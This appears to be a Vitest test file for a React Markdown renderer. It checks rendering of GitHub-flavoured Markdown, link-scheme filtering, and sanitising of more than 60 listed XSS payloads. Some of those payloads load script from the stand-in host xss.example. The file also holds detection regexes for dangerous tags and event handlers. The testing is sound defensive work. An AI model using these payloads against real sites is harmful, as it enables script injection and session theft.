import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { MarkdownContent } from "./markdown";

// React adds its own <link rel="preload"> hints for images: not part of the article.
const render = (source: string) =>
  renderToStaticMarkup(<MarkdownContent source={source} />).replace(
    /<link rel="preload" as="image"[^>]*>/g,
    "",
  );

/** Classic XSS vectors (OWASP filter evasion cheat sheet and friends), in HTML and Markdown. */
const payloads = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
  "<script type=module>import('https://xss.example')</script>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)">',
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("XSS")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
  "<IMG SRC=\"jav\tascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
  "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  "<SCRIPT SRC=//xss.example/.j>",
  "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
  "<iframe src=http://xss.example/scriptlet.html <",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<a href="javascript:alert(1)">clic</a>',
  '<a href="JAVASCRIPT:alert(1)">clic</a>',
  '<a href=" javascript:alert(1)">clic</a>',
  '<a href="&#106;avascript:alert(1)">clic</a>',
  '<a href="data:text/html,<script>alert(1)</script>">clic</a>',
  '<a href="vbscript:msgbox(1)">clic</a>',
  '<a href="#" onclick="alert(1)">clic</a>',
  '<a href="https://ok.example" onmouseover="alert(1)">survol</a>',
  '<div style="background:url(javascript:alert(1))">style</div>',
  '<div onmouseenter="alert(1)">div</div>',
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  '<form action="javascript:alert(1)"><button>Envoyer</button></form>',
  '<button formaction="javascript:alert(1)">X</button>',
  '<video><source onerror="alert(1)"></video>',
  "<audio src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<style>@import "javascript:alert(1)";</style>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  "<marquee onstart=alert(1)>défile</marquee>",
  '<isindex action="javascript:alert(1)" type=image>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "[clic](javascript:alert(1))",
  "[clic](JaVaScRiPt:alert(1))",
  "[clic](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[clic](vbscript:msgbox(1))",
  "![image](javascript:alert(1))",
  "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "<javascript:alert(1)>",
  "[ref]: javascript:alert(1)\n\n[clic][ref]",
];

const dangerousTag =
  /<\s*(script|iframe|object|embed|style|form|meta|link|base|svg|math|body|frame|frameset|applet|button|marquee|isindex)\b/i;
const eventHandler = /\son[a-z]+\s*=/i;

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&quot;/g, '"')
    .replace(/&#x27;|&apos;/g, "'")
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&amp;/g, "&");
}

/** Every attribute value, as a browser would read it (entities decoded, blanks removed). */
function attributeValues(html: string): string[] {
  return [...html.matchAll(/\s[\w:-]+="([^"]*)"/g)].map((match) =>
    decodeEntities(match[1]!)
      .replace(/[\u0000-\u0020]/g, "")
      .toLowerCase(),
  );
}

describe("MarkdownContent", () => {
  it("renders GitHub-flavoured Markdown: tables, task lists, strikethrough, autolinks", () => {
    const html = render(
      "| A | B |\n| - | - |\n| 1 | 2 |\n\n- [x] fait\n\n~~barré~~ https://example.org",
    );
    expect(html).toContain("<table>");
    expect(html).toContain('type="checkbox"');
    expect(html).toContain("<del>barré</del>");
    expect(html).toContain('<a href="https://example.org">https://example.org</a>');
  });

  it("lets harmless raw HTML through", () => {
    expect(render("<details><summary>Plus</summary>Texte <kbd>Ctrl</kbd></details>")).toBe(
      "<details><summary>Plus</summary>Texte <kbd>Ctrl</kbd></details>",
    );
  });

  it("keeps relative links and the allowed schemes, and empties the others", () => {
    const html = render(
      "[a](/formations) [b](https://x.fr) [c](mailto:a@b.fr) [d](xmpp:a@b.fr) [e](irc://irc.example) [f](ircs://irc.example) [g](ftp://x.fr) [h](javascript:alert(1))",
    );
    for (const href of [
      "/formations",
      "https://x.fr",
      "mailto:a@b.fr",
      "xmpp:a@b.fr",
      "irc://irc.example",
      "ircs://irc.example",
    ]) {
      expect(html).toContain(`href="${href}"`);
    }
    expect(html).toContain('<a href="">g</a>');
    expect(html).toContain('<a href="">h</a>');
    expect(render("![x](data:image/png;base64,AAAA)")).toBe('<p><img alt="x" loading="lazy"/></p>');
  });

  it(`neutralises every one of ${payloads.length} XSS payloads`, () => {
    expect(payloads.length).toBeGreaterThanOrEqual(50);
    for (const payload of payloads) {
      const html = render(payload);
      expect(html, payload).not.toMatch(dangerousTag);
      // The only input allowed is a task list's disabled checkbox.
      for (const input of html.match(/<input[^>]*>/g) ?? [])
        expect(input).toBe('<input disabled="" type="checkbox"/>');
      // Text is escaped (&lt;...&gt;): only real tags can carry attributes.
      // Attribute values are quoted and escaped: only attribute names matter here.
      for (const tag of html.match(/<[^>]*>/g) ?? []) {
        expect(tag.replace(/"[^"]*"/g, '""'), payload).not.toMatch(eventHandler);
      }
      for (const value of attributeValues(html)) {
        expect(value, payload).not.toMatch(/^(javascript|vbscript|data):/);
        expect(value, payload).not.toContain("javascript:");
      }
    }
  });
});
